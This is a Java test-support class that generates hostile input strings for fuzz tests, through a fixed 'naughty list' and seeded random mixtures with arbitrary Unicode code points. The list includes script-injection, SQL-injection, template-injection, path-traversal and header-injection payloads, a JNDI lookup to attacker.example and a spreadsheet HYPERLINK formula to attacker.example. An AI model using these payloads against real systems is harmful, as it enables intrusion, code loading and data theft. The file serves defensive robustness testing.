package org.mendwell.support;

import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.stream.Stream;

/**
 * Hostile text for the fuzz tests: a fixed list of strings known to break applications (markup and
 * script, SQL and LIKE wildcards, template and lookup expressions, control characters, direction
 * overrides, invisible and combining characters, emoji and other supplementary characters, unpaired
 * surrogates, formula prefixes, header injection, homoglyphs, huge inputs), and random mixtures of
 * them with random code points from every plane. Deterministic from the seed, so a failure repeats.
 */
public final class HostileText {

    public static final List<String> NAUGHTY = List.of(
            "",
            " ",
            "\t",
            "\n",
            "\r\n",
            "\u00a0",
            "\u3000",
            "\u200b",
            "\ufeff",
            "\u202e",
            "\u2066\u2069",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(1)>",
            "javascript:alert(1)",
            "<b>bold</b>",
            "&lt;&amp;&gt;",
            "<!--",
            "]]>",
            "<?xml version=\"1.0\"?>",
            "' OR '1'='1",
            "'; DROP TABLE client; --",
            "\" OR \"\"=\"",
            "1; SELECT * FROM account",
            "%",
            "_",
            "\\",
            "\\%",
            "%_%",
            "' UNION SELECT password_hash FROM account --",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}",
            "#{7*7}",
            "${7*7}",
            "<%= 7*7 %>",
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "=HYPERLINK(\"http://attacker.example\")",
            "../../../../etc/passwd",
            "C:\\Windows\\System32",
            "file:///etc/passwd",
            "\u0000",
            "a\u0000b",
            "\u0007\u0008\u001b[31m",
            "\u007f",
            "\u0085",
            "\u2028\u2029",
            "Z\u0337\u0322\u0353a\u0334\u032bl\u0336g\u0334o\u0335",
            "\ud83d\udc69\u200d\u2764\ufe0f\u200d\ud83d\udc68",
            "\ud835\udd73\ud835\udd8a\ud835\udd91\ud835\udd91\ud835\udd94",
            "\ud800",
            "\udc00",
            "a\ud800b",
            "\ufffd",
            "\uffff",
            "\u0130stanbul",
            "stra\u00dfe",
            "r\u043ebin@mendwell.example",
            "a\r\nBcc: someone@attacker.example",
            "null",
            "undefined",
            "NaN",
            "true",
            "0",
            "-0",
            "1e309",
            "\u0645\u0631\u062d\u0628\u0627",
            "\u05e9\u05dc\u05d5\u05dd",
            "\u4f60\u597d",
            "\u1f600",
            "a".repeat(4000),
            "b".repeat(4001),
            "\u00e9".repeat(2500),
            "\ud83d\ude00".repeat(2100),
            "x".repeat(100_000));

    private HostileText() {}

    /** The naughty list, then {@code randomCount} random mixtures. */
    public static Stream<String> cases(long seed, int randomCount) {
        var random = new SplittableRandom(seed);
        List<String> all = new ArrayList<>(NAUGHTY);
        for (int i = 0; i < randomCount; i++) {
            all.add(mixture(random));
        }
        return all.stream();
    }

    private static String mixture(SplittableRandom random) {
        var text = new StringBuilder();
        int parts = 1 + random.nextInt(5);
        for (int i = 0; i < parts; i++) {
            switch (random.nextInt(3)) {
                case 0 -> {
                    String naughty = NAUGHTY.get(random.nextInt(NAUGHTY.size()));
                    text.append(naughty, 0, Math.min(naughty.length(), 300));
                }
                case 1 -> {
                    int length = random.nextInt(40);
                    for (int c = 0; c < length; c++) {
                        text.appendCodePoint(randomCodePoint(random));
                    }
                }
                default -> text.append("ordinary words ".repeat(random.nextInt(4)));
            }
        }
        return text.toString();
    }

    /** Mostly printable, sometimes control, sometimes far planes, sometimes an unpaired surrogate. */
    private static int randomCodePoint(SplittableRandom random) {
        return switch (random.nextInt(6)) {
            case 0 -> random.nextInt(0x20);
            case 1 -> 0xd800 + random.nextInt(0x800);
            case 2 -> 0x10000 + random.nextInt(0x100000);
            case 3 -> 0x80 + random.nextInt(0x780);
            default -> 0x20 + random.nextInt(0x5f);
        };
    }
}
